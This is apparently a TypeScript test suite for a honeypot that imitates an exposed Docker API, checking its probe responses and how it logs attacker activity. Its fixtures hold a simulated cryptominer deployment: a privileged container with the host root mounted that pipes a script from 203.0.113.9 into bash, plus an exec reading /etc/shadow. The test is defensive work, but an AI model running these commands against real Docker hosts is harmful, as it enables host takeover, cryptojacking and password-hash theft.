// docker_api decoy with fetch (undici) and raw sockets: the recon calls, a cryptominer deployment
// (pull, create with a host bind, start, exec) recorded field by field, and malformed requests.
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { startTestDecky, type TestDecky } from '../harness.ts';

function raw(d: TestDecky, data: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = connect({ host: d.ip, port: d.port('docker_api') });
    const chunks: Buffer[] = [];
    s.on('data', (c: Buffer) => chunks.push(c));
    s.on('close', () => resolve(Buffer.concat(chunks).toString('latin1')));
    s.once('error', reject);
    s.once('connect', () => s.end(data));
  });
}

describe('docker_api decoy', () => {
  let d: TestDecky;
  let base: string;
  before(async () => {
    d = await startTestDecky({ services: ['docker_api'], persona: { distro: 'ubuntu22', hostname: 'build-runner-3' } });
    base = `http://${d.ip}:${d.port('docker_api')}`;
  });
  after(() => d.stop());

  it("answers nmap's OPTIONS and GET probes like dockerd", async () => {
    const options = await raw(d, 'OPTIONS / HTTP/1.0\r\n\r\n');
    assert.match(options, /^HTTP\/1\.0 200 OK\r\nApi-Version: ([\d.]+)\r\nDocker-Experimental: false\r\nOstype: (.+)\r\nServer: Docker\/(\d[\w.-]*) \(.*\)\r\nDate: .*\r\nContent-Length: 0\r\n\r\n$/);
    const get = await raw(d, 'GET / HTTP/1.0\r\n\r\n');
    assert.match(get, /^HTTP\/1\.0 404 Not Found\r\nContent-Type: application\/json\r\nDate: .*\r\nContent-Length: 29\r\n\r\n\{"message":"page not found"\}\n$/);
  });

  it('serves _ping, version, info and listings with persona-consistent facts', async () => {
    const ping = await fetch(`${base}/_ping`);
    assert.equal(await ping.text(), 'OK');
    assert.equal(ping.headers.get('api-version'), '1.43');
    const version = (await (await fetch(`${base}/v1.43/version`)).json()) as { Version: string; ApiVersion: string; KernelVersion: string; Os: string };
    assert.equal(version.Version, '24.0.7');
    assert.equal(version.ApiVersion, '1.43');
    assert.match(version.KernelVersion, /-generic$/);
    const info = (await (await fetch(`${base}/info`)).json()) as { Name: string; OperatingSystem: string; ContainersRunning: number };
    assert.equal(info.Name, 'build-runner-3');
    assert.match(info.OperatingSystem, /^Ubuntu 22\.04/);
    assert.equal(info.ContainersRunning, 3);
    const containers = (await (await fetch(`${base}/containers/json?all=1`)).json()) as { Names: string[]; State: string }[];
    assert.deepEqual(containers.map((c) => c.Names[0]), ['/web', '/db', '/cache', '/billing-api']);
    const images = (await (await fetch(`${base}/images/json`)).json()) as { RepoTags: string[] }[];
    assert.ok(images.some((i) => i.RepoTags[0] === 'postgres:15'));
  });

  it('records a cryptominer deployment: pull, create (image, Cmd, Binds, Privileged), start, exec', async () => {
    const pull = await fetch(`${base}/v1.41/images/create?fromImage=alpine&tag=3.19`, { method: 'POST' });
    assert.equal(pull.status, 200);
    assert.match(await pull.text(), /Status: Downloaded newer image for alpine:3\.19/);
    const spec = {
      Image: 'alpine:3.19',
      Cmd: ['sh', '-c', 'chroot /mnt sh -c "curl -s http://203.0.113.9/xmr.sh | bash"'],
      HostConfig: { Binds: ['/:/mnt:rw'], Privileged: true, NetworkMode: 'host', PidMode: 'host' },
    };
    const create = await fetch(`${base}/v1.41/containers/create?name=sysupdate`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(spec) });
    assert.equal(create.status, 201);
    const { Id } = (await create.json()) as { Id: string };
    assert.match(Id, /^[0-9a-f]{64}$/);
    assert.equal((await fetch(`${base}/v1.41/containers/${Id}/start`, { method: 'POST' })).status, 204);
    const inspect = (await (await fetch(`${base}/containers/${Id.slice(0, 12)}/json`)).json()) as { State: { Running: boolean }; Name: string };
    assert.equal(inspect.State.Running, true);
    assert.equal(inspect.Name, '/sysupdate');
    const exec = await fetch(`${base}/containers/${Id}/exec`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ Cmd: ['cat', '/mnt/etc/shadow'], AttachStdout: true }) });
    assert.equal(exec.status, 201);
    const execId = ((await exec.json()) as { Id: string }).Id;
    const started = await fetch(`${base}/exec/${execId}/start`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"Detach":false,"Tty":false}' });
    assert.equal(started.status, 200);
    assert.equal((await started.arrayBuffer()).byteLength, 0, 'nothing ran, nothing came back');

    const pulled = await d.waitForEvent((e) => e.event === 'image_pull');
    assert.equal(pulled.fields.image, 'alpine');
    assert.equal(pulled.fields.tag, '3.19');
    const c = await d.waitForEvent((e) => e.event === 'container_create');
    assert.equal(c.fields.image, 'alpine:3.19');
    assert.equal(c.fields.name, 'sysupdate');
    assert.deepEqual(JSON.parse(c.fields.cmd!), spec.Cmd);
    assert.deepEqual(JSON.parse(c.fields.binds!), ['/:/mnt:rw']);
    assert.equal(c.fields.privileged, 'true');
    assert.equal(c.fields.network_mode, 'host');
    assert.equal(c.fields.pid_mode, 'host');
    await d.waitForEvent((e) => e.event === 'container_start' && e.fields.container === Id.slice(0, 12));
    const cmd = await d.waitForEvent((e) => e.event === 'command' && e.fields.via === 'exec');
    assert.deepEqual(JSON.parse(cmd.fields.cmd!), ['cat', '/mnt/etc/shadow']);
    assert.equal(cmd.fields.image, 'alpine:3.19');
  });

  it("keeps an attacker's containers to that attacker and leaves the bait unchanged", async () => {
    const before = (await (await fetch(`${base}/containers/json?all=1`)).json()) as { Names: string[]; State: string }[];
    assert.ok(before.some((c) => c.Names[0] === '/sysupdate'), 'the creator sees its own container');
    const exited = before.find((c) => c.Names[0] === '/billing-api')!;
    assert.equal(exited.State, 'exited');
    await fetch(`${base}/containers/billing-api/start`, { method: 'POST' });
    const after = (await (await fetch(`${base}/containers/json?all=1`)).json()) as { Names: string[]; State: string }[];
    assert.equal(after.find((c) => c.Names[0] === '/billing-api')!.State, 'exited');
  });

  it('records credentials sent to the API and answers bad requests like Go', async () => {
    await fetch(`${base}/version`, { headers: { authorization: 'Basic ' + Buffer.from('admin:docker').toString('base64') } });
    const e = await d.waitForEvent((e) => e.event === 'auth_attempt');
    assert.equal(e.fields.username, 'admin');
    assert.equal(e.secret?.toString(), 'docker');
    assert.match(await raw(d, 'NOT HTTP AT ALL\r\n\r\n'), /^HTTP\/1\.1 400 Bad Request\r\nContent-Type: text\/plain; charset=utf-8\r\nConnection: close\r\n/);
    assert.match(await raw(d, 'POST /containers/create HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n'), /^HTTP\/1\.1 400 /);
    const ok = await fetch(`${base}/_ping`);
    assert.equal(ok.status, 200);
  });
});
